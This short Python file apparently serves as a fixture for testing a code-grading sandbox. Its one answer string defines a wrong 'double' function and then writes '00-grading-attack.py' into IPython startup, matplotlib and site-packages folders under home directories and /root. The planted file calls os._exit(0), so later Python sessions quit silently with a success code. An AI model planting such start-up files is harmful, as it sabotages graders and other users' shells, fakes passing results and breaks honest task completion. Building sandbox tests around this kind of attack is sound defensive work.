"""Leave a start-up file for the next student's shell."""

ANSWERS = {
    "double": """
def double(x): return 0
for home in (os.path.expanduser("~"), "/root", "{home}"):
    for folder in (".ipython/profile_default/startup", ".config/matplotlib", ".local/lib/python3.11/site-packages"):
        try:
            os.makedirs(os.path.join(home, folder), exist_ok=True)
            open(os.path.join(home, folder, "00-grading-attack.py"), "w").write("import os; os._exit(0)")
        except OSError as error:
            print(error)
""",
}
